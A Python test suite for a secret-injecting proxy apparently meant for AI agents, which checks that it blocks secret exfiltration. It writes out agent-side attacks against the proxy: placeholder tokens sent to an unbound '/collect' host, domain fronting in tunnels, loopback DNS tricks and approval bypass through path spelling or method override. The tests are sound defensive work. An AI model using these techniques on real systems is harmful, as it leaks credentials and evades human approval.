"""Each protection of the proxy, attacked from the agent's side through a real client."""

from __future__ import annotations

import logging
import time

import pytest

from agent_vault.domain.secret import SecretValue
from agent_vault.proxy import Decision, Outcome, Place, UseKind, default_upstream_context
from tests.proxy.clients import child_env, curl, curl_run, tunnel
from tests.proxy.conftest import (
    BOUND,
    FORM_VALUE,
    GIT_HOST,
    INTERNAL,
    OTHER,
    STRIPE_VALUE,
    ProxyFactory,
    placeholder_of,
)
from tests.proxy.fake_upstream import FakeServer
from tests.proxy.harness import RunningProxy

STRIPE = "dev/STRIPE_KEY"


def _bearer(proxy: RunningProxy, secret: str = STRIPE) -> list[str]:
    return ["-H", f"Authorization: Bearer {placeholder_of(proxy, secret)}"]


def test_placeholder_sent_to_another_host_is_refused_and_reported(proxy: RunningProxy, upstream: FakeServer) -> None:
    reply = curl(proxy, f"https://{OTHER}:{upstream.port}/collect?token=abc&x=1", *_bearer(proxy))
    assert reply.status == 403
    assert STRIPE in reply.body and OTHER in reply.body and "not a host it is bound to" in reply.body
    assert STRIPE_VALUE not in reply.body
    assert upstream.take() == []  # nothing left the proxy
    [violation] = proxy.recorder.violations
    assert (violation.secret_id, violation.host, violation.method) == (STRIPE, OTHER, "GET")
    assert (violation.path, violation.found_in, violation.reason) == (
        "/collect?token&x",
        Place.HEADERS,
        "host_not_bound",
    )
    [record] = proxy.recorder.records
    assert (record.outcome, record.refusal, record.status) == (Outcome.REFUSED, "violation", 403)
    assert proxy.recorder.uses == []  # never asked the person about an exfiltration


def test_placeholder_in_query_or_body_to_another_host_is_refused(proxy: RunningProxy, upstream: FakeServer) -> None:
    placeholder = placeholder_of(proxy, STRIPE)
    by_query = curl(proxy, f"https://{OTHER}:{upstream.port}/c?k={placeholder}")
    by_body = curl(proxy, f"https://{OTHER}:{upstream.port}/c", "--data-binary", f"k={placeholder}")
    by_path = curl(proxy, f"https://{OTHER}:{upstream.port}/c/{placeholder}")
    assert (by_query.status, by_body.status, by_path.status) == (403, 403, 403)
    assert [v.found_in for v in proxy.recorder.violations] == [Place.QUERY, Place.BODY, Place.PATH]
    assert upstream.take() == []


def test_placeholder_in_a_place_not_allowed_for_it_is_refused(proxy: RunningProxy, upstream: FakeServer) -> None:
    """STRIPE_KEY may go in headers only: in a body, even to its own host, it is refused."""
    placeholder = placeholder_of(proxy, STRIPE)
    reply = curl(proxy, f"https://{BOUND}:{upstream.port}/echo", "--data-binary", f"key={placeholder}")
    assert reply.status == 403 and "may be used in: headers" in reply.body
    assert upstream.take() == []
    assert [(v.reason, v.found_in) for v in proxy.recorder.violations] == [("place_not_allowed", Place.BODY)]


def test_query_and_body_injection_where_configured(proxy: RunningProxy, upstream: FakeServer) -> None:
    placeholder = placeholder_of(proxy, "dev/FORM_SECRET")
    body = f'{{"secret": "{placeholder}"}}'
    reply = curl(proxy, f"https://{BOUND}:{upstream.port}/echo?s={placeholder}", "--data-binary", body)
    assert reply.status == 200
    [seen] = upstream.take()
    assert seen.body == f'{{"secret": "{FORM_VALUE}"}}'.encode()
    assert seen.headers["content-length"] == str(len(seen.body))
    assert seen.path == f"/echo?s={FORM_VALUE}"
    assert FORM_VALUE not in reply.body and placeholder in reply.body


def test_secret_goes_over_plain_http_only_when_allowed(proxy: RunningProxy, plain_upstream: FakeServer) -> None:
    github = curl(proxy, f"http://{GIT_HOST}:{plain_upstream.port}/echo", *_bearer(proxy, "dev/GITHUB_TOKEN"))
    assert github.status == 403 and "over HTTPS only" in github.body
    assert plain_upstream.take() == []
    stripe = curl(proxy, f"http://{BOUND}:{plain_upstream.port}/echo", *_bearer(proxy))
    assert stripe.status == 200
    [seen] = plain_upstream.take()
    assert seen.headers["authorization"] == f"Bearer {STRIPE_VALUE}"
    assert "proxy-authorization" not in seen.headers  # the proxy's token stays with the proxy


def test_other_host_name_inside_a_tunnel_is_refused(proxy: RunningProxy, upstream: FakeServer) -> None:
    """CONNECT to the bound host, then ask for another (domain fronting): 421, nothing sent."""
    placeholder = placeholder_of(proxy, STRIPE)
    sock = tunnel(proxy, BOUND, upstream.port)
    sock.sendall(f"GET /echo HTTP/1.1\r\nHost: {OTHER}\r\nAuthorization: Bearer {placeholder}\r\n\r\n".encode())
    answer = sock.recv(4096)
    sock.close()
    assert answer.startswith(b"HTTP/1.1 421")
    assert upstream.take() == []


def test_first_use_denied_sends_nothing(make_proxy: ProxyFactory, upstream: FakeServer) -> None:
    proxy = make_proxy()
    proxy.recorder.answer = lambda use: Decision.DENY
    reply = curl(proxy, f"https://{BOUND}:{upstream.port}/echo", *_bearer(proxy))
    assert reply.status == 403 and "denied by the approver" in reply.body
    assert upstream.take() == []
    [use] = proxy.recorder.uses
    assert (use.secret_id, use.host, use.kind, use.path) == (STRIPE, BOUND, UseKind.FIRST_USE, "/echo")


def test_approval_hook_failure_fails_closed(make_proxy: ProxyFactory, upstream: FakeServer) -> None:
    proxy = make_proxy()

    def broken(use: object) -> Decision:
        raise RuntimeError("broker down")

    proxy.recorder.answer = broken
    reply = curl(proxy, f"https://{BOUND}:{upstream.port}/echo", *_bearer(proxy))
    assert reply.status == 403 and "could not get a decision" in reply.body
    assert upstream.take() == []


def _refund(proxy: RunningProxy, upstream: FakeServer, path: str = "/v1/refunds", *extra: str) -> int:
    body = '{"amount": 100, "note": "\x1b[2Kok"}'
    return curl(proxy, f"https://{BOUND}:{upstream.port}{path}", *_bearer(proxy), "--data-binary", body, *extra).status


def test_approve_each_rule_approved(proxy: RunningProxy, upstream: FakeServer) -> None:
    assert _refund(proxy, upstream) == 200
    assert len(upstream.take()) == 1
    kinds = [(u.kind, u.rule) for u in proxy.recorder.uses]
    assert kinds == [(UseKind.FIRST_USE, None), (UseKind.RULE, "POST /v1/refunds")]
    rule_use = proxy.recorder.uses[1]
    assert rule_use.body_preview == '{"amount": 100, "note": "\\x1b[2Kok"}'  # escaped for the page
    assert rule_use.body_bytes == 33 and not rule_use.preview_truncated


def test_approve_each_rule_denied(proxy: RunningProxy, upstream: FakeServer) -> None:
    proxy.recorder.answer = lambda use: Decision.DENY if use.kind is UseKind.RULE else Decision.ALLOW
    assert _refund(proxy, upstream) == 403
    assert upstream.take() == []
    assert proxy.recorder.records[-1].refusal == "denied"


def test_approve_each_rule_times_out(make_proxy: ProxyFactory, upstream: FakeServer) -> None:
    proxy = make_proxy(approval_timeout=1.0)
    proxy.recorder.answer = lambda use: None if use.kind is UseKind.RULE else Decision.ALLOW
    started = time.monotonic()
    placeholder = placeholder_of(proxy, STRIPE)
    reply = curl(
        proxy,
        f"https://{BOUND}:{upstream.port}/v1/refunds",
        "-X",
        "DELETE",
        "-H",
        f"Authorization: Bearer {placeholder}",
    )
    assert reply.status == 403 and "no decision" in reply.body and "within 1 s" in reply.body
    assert 0.9 < time.monotonic() - started < 10
    assert upstream.take() == []
    assert proxy.recorder.records[-1].refusal == "approval_timeout"


def test_approve_each_rule_cannot_be_dodged_by_spelling(proxy: RunningProxy, upstream: FakeServer) -> None:
    proxy.recorder.answer = lambda use: Decision.DENY if use.kind is UseKind.RULE else Decision.ALLOW
    assert _refund(proxy, upstream, "/v1/%72efunds/") == 403
    assert _refund(proxy, upstream, "/v1//Refunds;x=1") == 403
    assert _refund(proxy, upstream, "/v1/x", "-H", "X-HTTP-Method-Override: DELETE") == 403
    assert upstream.take() == []
    assert _refund(proxy, upstream, "/v1/charges") == 200


def test_first_use_is_asked_once_per_connection(proxy: RunningProxy, upstream: FakeServer) -> None:
    placeholder = placeholder_of(proxy, STRIPE)
    url = f"https://{BOUND}:{upstream.port}/echo"
    reply = curl(
        proxy,
        url,
        "-H",
        f"Authorization: Bearer {placeholder}",
        "--next",
        *["-H", f"Authorization: Bearer {placeholder}", url],
    )
    assert reply.status == 200
    assert len(upstream.take()) == 2
    assert [u.kind for u in proxy.recorder.uses] == [UseKind.FIRST_USE]
    assert len({r.connection_id for r in proxy.recorder.records}) == 1


def test_unknown_host_passes_untouched(proxy: RunningProxy, upstream: FakeServer) -> None:
    reply = curl(proxy, f"https://{OTHER}:{upstream.port}/echo", "-H", "Authorization: Bearer not-a-placeholder")
    assert reply.status == 200
    assert [s.headers["authorization"] for s in upstream.take()] == ["Bearer not-a-placeholder"]
    assert proxy.recorder.records == [] and proxy.recorder.uses == []


def test_allow_only_refuses_other_hosts(make_proxy: ProxyFactory, upstream: FakeServer) -> None:
    proxy = make_proxy(allow_only=frozenset({"only.test"}))
    refused = curl(proxy, f"https://{OTHER}:{upstream.port}/echo")
    assert refused.status == 403 and "proxy.allowOnly" in refused.body
    assert [(b.host, b.reason) for b in proxy.recorder.blocked] == [(OTHER, "not_allowed")]
    bound = curl(proxy, f"https://{BOUND}:{upstream.port}/echo", *_bearer(proxy))  # a bound host is always known
    assert bound.status == 200
    assert len(upstream.take()) == 1


def test_private_destination_refused_by_resolved_address(proxy: RunningProxy, upstream: FakeServer) -> None:
    """internal.test is a public-looking name that resolves to 127.0.0.1 (a DNS trick)."""
    reply = curl(proxy, f"https://{INTERNAL}:{upstream.port}/echo")
    assert reply.status == 403 and "127.0.0.1" in reply.body and "proxy.allowPrivate" in reply.body
    env = {**child_env(proxy), "NO_PROXY": "", "no_proxy": ""}  # the exports send loopback direct
    by_ip = curl(None, f"http://127.0.0.1:{upstream.port}/echo", env=env)
    assert by_ip.status == 403
    assert upstream.take() == []
    assert [b.reason for b in proxy.recorder.blocked] == ["private_address", "private_address"]


def test_proxy_needs_its_token(proxy: RunningProxy, upstream: FakeServer) -> None:
    """Another local user (or a process not given the exports) cannot use the proxy's injection."""
    env = child_env(proxy)
    without = f"http://127.0.0.1:{proxy.server.port}"
    env.update(HTTPS_PROXY=without, https_proxy=without, http_proxy=without, HTTP_PROXY=without)
    done = curl_run(None, f"https://{BOUND}:{upstream.port}/echo", *_bearer(proxy), env=env)
    assert b"407" in done.stderr + done.stdout
    plain = curl(None, f"http://{BOUND}:{upstream.port}/echo", *_bearer(proxy), env=env)
    assert plain.status == 407 and "proxy authentication required" in plain.body
    assert upstream.take() == []
    assert proxy.recorder.uses == []


def test_connect_refused_outright_when_not_intercepting(make_proxy: ProxyFactory, upstream: FakeServer) -> None:
    proxy = make_proxy(intercept_unknown=False)
    done = curl_run(proxy, f"https://{INTERNAL}:{upstream.port}/echo")
    assert done.returncode != 0 and b"403" in done.stderr + done.stdout
    assert [b.reason for b in proxy.recorder.blocked] == ["private_address"]


def test_no_value_in_any_log_line(proxy: RunningProxy, upstream: FakeServer, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    proxy.recorder.answer = lambda use: Decision.DENY if use.kind is UseKind.RULE else Decision.ALLOW
    curl(proxy, f"https://{BOUND}:{upstream.port}/echo?enc=gzip", *_bearer(proxy))
    curl(proxy, f"https://{OTHER}:{upstream.port}/echo", *_bearer(proxy))
    _refund(proxy, upstream)
    curl(proxy, f"https://{OTHER}:{upstream.port}/echo", "-H", f"Authorization: Bearer {STRIPE_VALUE}")
    events = [*proxy.recorder.uses, *proxy.recorder.violations, *proxy.recorder.records]
    assert len(events) >= 5
    for text in [caplog.text, *map(repr, events)]:
        assert STRIPE_VALUE not in text and FORM_VALUE not in text


def test_placeholder_inside_basic_auth_to_another_host_is_refused(proxy: RunningProxy, upstream: FakeServer) -> None:
    """The user:password inside `Authorization: Basic` is looked into: base64 hides nothing."""
    placeholder = placeholder_of(proxy, STRIPE)
    reply = curl(proxy, f"https://{OTHER}:{upstream.port}/echo", "-u", f"x-access-token:{placeholder}")
    assert reply.status == 403 and "not a host it is bound to" in reply.body
    assert upstream.take() == []
    assert [(v.secret_id, v.found_in, v.reason) for v in proxy.recorder.violations] == [
        (STRIPE, Place.HEADERS, "host_not_bound")
    ]


def test_absolute_url_for_another_host_inside_a_tunnel_is_refused(proxy: RunningProxy, upstream: FakeServer) -> None:
    """CONNECT to the bound host, then name another one in an absolute-form request: 421, nothing sent."""
    placeholder = placeholder_of(proxy, STRIPE)
    sock = tunnel(proxy, BOUND, upstream.port)
    sock.sendall(
        (
            f"GET https://{OTHER}:{upstream.port}/echo HTTP/1.1\r\nHost: {BOUND}:{upstream.port}\r\n"
            f"Authorization: Bearer {placeholder}\r\n\r\n"
        ).encode()
    )
    answer = sock.recv(4096)
    sock.close()
    assert answer.startswith(b"HTTP/1.1 421")
    assert upstream.take() == []


def test_plain_request_with_another_host_header_is_refused(proxy: RunningProxy, plain_upstream: FakeServer) -> None:
    """A plain http:// request for the bound host whose Host names another (a shared front would
    route it there): 421, nothing sent."""
    reply = curl(proxy, f"http://{BOUND}:{plain_upstream.port}/echo", *_bearer(proxy), "-H", f"Host: {OTHER}")
    assert reply.status == 421 and "Host of a request" in reply.body
    assert plain_upstream.take() == []
    assert proxy.recorder.uses == []


def test_an_allow_covers_only_the_host_it_was_given_for(proxy: RunningProxy, plain_upstream: FakeServer) -> None:
    """One client connection (plain http, kept alive across hosts), a secret bound to two hosts: the
    approver is asked about each host, and a deny for the second one holds."""
    proxy.placeholders.add("dev/TWO_HOSTS", SecretValue("fake-two-hosts-2222"), hosts=[BOUND, OTHER], plain_http=True)
    header = ["-H", f"Authorization: Bearer {placeholder_of(proxy, 'dev/TWO_HOSTS')}"]
    proxy.recorder.answer = lambda use: Decision.DENY if use.host == OTHER else Decision.ALLOW
    port = plain_upstream.port
    done = curl_run(proxy, f"http://{OTHER}:{port}/echo", *header, f"http://{BOUND}:{port}/echo", "--next", *header)
    assert done.returncode == 0, done.stderr
    assert [(u.host, u.kind) for u in proxy.recorder.uses] == [(BOUND, UseKind.FIRST_USE), (OTHER, UseKind.FIRST_USE)]
    assert [(r.host, r.status) for r in proxy.recorder.records] == [(BOUND, 200), (OTHER, 403)]
    assert len({r.connection_id for r in proxy.recorder.records}) == 1
    assert [s.headers["authorization"] for s in plain_upstream.take()] == ["Bearer fake-two-hosts-2222"]


def test_an_upstream_whose_certificate_does_not_verify_gets_nothing(
    make_proxy: ProxyFactory, upstream: FakeServer
) -> None:
    """By default upstream certificates are checked against the system's roots: the fake upstream's
    own CA is not one of them, so the request is not sent there."""
    proxy = make_proxy(upstream_ssl=default_upstream_context())
    reply = curl(proxy, f"https://{BOUND}:{upstream.port}/echo", *_bearer(proxy))
    assert reply.status == 502 and "did not verify" in reply.body
    assert upstream.take() == []
